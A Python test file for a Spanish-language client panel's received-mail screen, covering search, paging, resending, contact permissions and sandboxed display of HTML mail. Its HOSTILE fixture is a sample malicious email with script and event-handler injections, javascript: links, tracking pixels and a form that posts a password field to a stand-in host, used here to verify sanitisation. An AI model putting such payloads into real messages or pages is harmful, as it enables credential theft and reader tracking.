"""'Emails Recibidos' (seed 004 5.3) in Chromium, in Spanish, at 1366x768 and 375x812, against a real server and
the real SMTP sink: search, the list (date, subject, kind of notice in words), 'Ver Mensaje' in view beside the
list, 'Ver más', 'Reenviar' saying to whom, and the HTML version only on request, in a sandboxed frame where a
hostile mail runs nothing and loads nothing from elsewhere (a remote image would tell the sender who read it).
"""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Browser, Page, Request, Route, expect
from tortoise.transactions import in_transaction

import models
from core.ids import to_global_id
from core.mail import Recipient, Rendered, archive_and_queue, queue_mail
from core.mail_html import displayable
from models.enums import EmailCategory, Language
from models.mail import MailKind
from tests.helpers import wait_for_mail
from tests.panel import (
    VIEWPORTS,
    assert_settled,
    in_viewport_with_role,
    open_panel,
    shot,
    sign_in,
)

HOLDER = "correo@example.net"
CONTACT = "lectora@example.com"
TRACKER = "tracker.example"
HOSTILE = f"""<!doctype html><html><head><style>body {{ background: url(https://{TRACKER}/bg.png) }}</style>
<script>alert("script")</script></head><body style="color: red" onload="alert('onload')">
<p>Su factura de diciembre está lista.</p>
<img src="https://{TRACKER}/pixel.gif?lector=1" onerror="alert('onerror')" alt="logo">
<img src="/seguimiento.gif?lector=1" alt="relativa">
<form action="https://{TRACKER}/robar" method="post"><input name="clave"><button>Enviar clave</button></form>
<a href="javascript:alert('link')">Ver factura</a> <a href="https://example.com/ayuda">Ayuda</a>
<iframe src="https://{TRACKER}/marco"></iframe><link rel="stylesheet" href="https://{TRACKER}/hoja.css">
<table background="https://{TRACKER}/fondo.gif"><tr><td>Total: $ 15.000</td></tr></table></body></html>"""


@pytest.fixture(params=list(VIEWPORTS), ids=list(VIEWPORTS))
async def page(request, app, browser: Browser) -> AsyncIterator[Page]:
    async with open_panel(app, browser, VIEWPORTS[request.param]) as page:
        yield page


async def notice(runtime, account: models.Account, category: EmailCategory, **values: str) -> None:
    """An 'email changed' notice of `category` (each category reaches the contacts subscribed to it)."""
    async with in_transaction():
        await queue_mail(runtime, account_id=account.id, template="email_changed", category=category, values=values)


async def archived(runtime, account: models.Account, subject: str, html: str) -> models.MailMessage:
    """A message as a provider's own template could produce it, sent to the holder."""
    rendered = Rendered(subject=subject, text="Su factura de diciembre está lista.\n", html=html)
    async with in_transaction():
        return await archive_and_queue(
            runtime,
            account_id=account.id,
            category=EmailCategory.PRODUCTS,
            template="factura",
            kind=MailKind.CUSTOMER,
            personal=False,
            service_id=None,
            resent_from_id=None,
            recipients=[Recipient(HOLDER, Language.ES)],
            archived=rendered,
            real=rendered,
        )


async def open_mail(page: Page) -> None:
    """The screen by its address (the menu that leads to it is the shell's, tested on its own)."""
    await page.evaluate("location.hash = '#mail'")
    await expect(page.locator("#mail-count")).to_be_visible()


def test_the_html_shown_runs_nothing_and_loads_nothing_from_elsewhere() -> None:
    shown = displayable(HOSTILE)
    for gone in ("<script", "alert", "onerror", "onload", "<style", "style=", "<form", "<input", "<iframe", "<link",
                 TRACKER, "javascript:", "seguimiento", "background"):  # fmt: skip
        assert gone not in shown, gone
    assert "Su factura de diciembre está lista." in shown
    assert '<a href="https://example.com/ayuda" target="_blank" rel="noopener noreferrer">Ayuda</a>' in shown
    embedded = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="sello">'
    assert displayable(embedded) == embedded
    assert "href" not in displayable('<a href="data:text/html,hola">x</a>')


async def test_the_api_gives_the_html_made_safe(client, factory, runtime) -> None:
    account = await factory.account(email=HOLDER)
    message = await archived(runtime, account, "Factura de diciembre", HOSTILE)
    await client.sign_in(account.client_number)
    query = "query($id: ID!) { node(id: $id) { ... on MailMessage { htmlBody } } }"
    html = (await client.data(query, {"id": to_global_id("MailMessage", message.id)}))["node"]["htmlBody"]
    assert html == displayable(HOSTILE)
    assert (await models.MailMessage.get(id=message.id)).html_body == HOSTILE  # the archive keeps what was sent


async def test_the_holder_searches_opens_pages_and_resends(page, factory, runtime, smtp_sink, request) -> None:
    account = await factory.account(email=HOLDER)
    await factory.contact(account, "dominios@example.com", email_categories=["DOMAINS"])
    for n in range(32):
        category = EmailCategory.DOMAINS if n == 31 else EmailCategory.GENERAL
        await notice(runtime, account, category, old_email=f"vieja{n}@example.com", new_email=f"nueva{n}@example.com")
    await sign_in(page, account.client_number)
    await open_mail(page)
    await expect(page.locator("#mail-count")).to_have_text("32 mensajes")
    await expect(page.locator("tr.mail")).to_have_count(30)
    first = page.locator("tr.mail").first
    await expect(first).to_contain_text("Cambio de su email en el Panel de Clientes")
    await expect(first).to_contain_text("Dominios")  # the kind of notice in words
    await expect(page.locator("thead")).to_contain_text("Tipo de aviso")
    await assert_settled(page)

    await page.click(".mail-more")  # 'Ver más': the two oldest, then no more button
    await expect(page.locator("tr.mail")).to_have_count(32)
    await expect(page.locator(".mail-more")).to_be_hidden()
    await expect(page.locator("tr.mail").last).to_contain_text("General")

    await page.fill("[name=search]", "nueva31")
    await page.click("#mail-search")
    await expect(page.locator("#mail-count")).to_have_text("1 mensaje")
    await expect(page.locator("tr.mail")).to_have_count(1)
    await page.click("[data-open='0']")
    await expect(page.locator("#mail-reader")).to_contain_text("nueva31@example.com")
    await expect(page.locator("#mail-subject")).to_be_in_viewport()
    await expect(page.locator("#mail-panel")).to_contain_text("dominios@example.com")  # who it went to
    await assert_settled(page)

    await page.click(".mail-resend")
    resent = page.locator(".mail-resend ~ .msg")
    await in_viewport_with_role(resent, "status")
    await expect(resent).to_contain_text("Reenviado a: correo@example.net, dominios@example.com")
    await expect(page.locator("tr.mail")).to_have_count(2)  # the copy, first in the list
    await expect(page.locator("#mail-count")).to_have_text("2 mensajes")
    await assert_settled(page)
    copies = await wait_for_mail(smtp_sink, "dominios@example.com", count=2)
    assert "nueva31@example.com" in copies[-1].text
    await shot(page, f"mail-resent-{request.node.callspec.id}")

    await page.fill("[name=search]", "no hay tal cosa")
    await page.click("#mail-search")
    await expect(page.locator("#mail-count")).to_have_text("Ningún mensaje coincide con la búsqueda.")
    await assert_settled(page)


async def test_a_hostile_html_mail_runs_nothing_and_loads_nothing(page, factory, runtime, request) -> None:
    account = await factory.account(email=HOLDER)
    await archived(runtime, account, "Factura de diciembre", HOSTILE)
    requested: list[str] = []
    dialogs: list[str] = []

    async def record(route: Route, pending: Request) -> None:
        requested.append(pending.url)
        if pending.url.startswith("http://127.0.0.1"):
            await route.continue_()
        else:
            await route.abort()

    await page.context.route("**/*", record)
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await sign_in(page, account.client_number)
    await open_mail(page)
    await page.click("[data-open='0']")
    await expect(page.locator("#mail-reader")).to_contain_text("Su factura de diciembre está lista.")  # text first
    await expect(page.locator("#mail-html")).to_have_count(0)

    await page.click(".mail-html-toggle")
    frame = page.frame_locator("#mail-html")
    await expect(frame.locator("body")).to_contain_text("Total: $ 15.000")
    sandbox = await page.locator("#mail-html").get_attribute("sandbox")
    assert sandbox is not None
    assert "allow-scripts" not in sandbox
    assert "allow-same-origin" not in sandbox
    policy = frame.locator("meta[http-equiv='Content-Security-Policy']")
    assert (await policy.get_attribute("content") or "").startswith("default-src 'none'; style-src 'unsafe-inline'")
    for selector in ("script", "style", "form", "input", "iframe", "link", "[onerror]", "[onload]", "[style]"):
        await expect(frame.locator(selector)).to_have_count(0)
    await expect(frame.locator("a[href^='javascript']")).to_have_count(0)
    await expect(frame.locator("img[src]")).to_have_count(0)
    await expect(page.locator(".mail-note")).to_contain_text("no se cargan imágenes de otros sitios")
    await expect(page.locator(".mail-html-toggle")).to_have_text("Ver versión texto")
    await assert_settled(page)
    await shot(page, f"mail-html-{request.node.callspec.id}")

    await page.click(".mail-html-toggle")  # and back to the text
    await expect(page.locator("#mail-reader")).to_be_visible()
    assert not dialogs
    assert not [url for url in requested if TRACKER in url or "seguimiento" in url], requested


async def test_a_contact_reads_only_their_mail_and_cannot_resend_it(page, factory, runtime) -> None:
    account = await factory.account(email=HOLDER)
    await factory.contact(account, CONTACT, email_categories=["SUPPORT"])
    await notice(runtime, account, EmailCategory.GENERAL, old_email="a@example.com", new_email="b@example.com")
    await notice(runtime, account, EmailCategory.SUPPORT, old_email="c@example.com", new_email="d@example.com")
    await sign_in(page, CONTACT)
    await expect(page.locator("#may-list")).to_be_visible()
    await open_mail(page)
    await expect(page.locator("#mail-count")).to_have_text("1 mensaje")
    await expect(page.locator("tr.mail")).to_contain_text("Soporte")
    await page.click("[data-open='0']")
    await expect(page.locator("#mail-reader")).to_contain_text("d@example.com")
    await expect(page.locator(".mail-resend")).to_have_count(0)  # resending needs the Emails permission
    await assert_settled(page)


async def test_a_contact_with_the_emails_permission_resends(page, factory, runtime, smtp_sink) -> None:
    account = await factory.account(email=HOLDER)
    await factory.contact(account, CONTACT, permissions=["MAIL"])
    await notice(runtime, account, EmailCategory.GENERAL, old_email="a@example.com", new_email="b@example.com")
    await sign_in(page, CONTACT)
    await open_mail(page)
    await page.click("[data-open='0']")
    await page.click(".mail-resend")
    resent = page.locator(".mail-resend ~ .msg")
    await in_viewport_with_role(resent, "status")
    await expect(resent).to_contain_text("Reenviado a: correo@example.net.")
    await wait_for_mail(smtp_sink, HOLDER, count=2)
    await assert_settled(page)
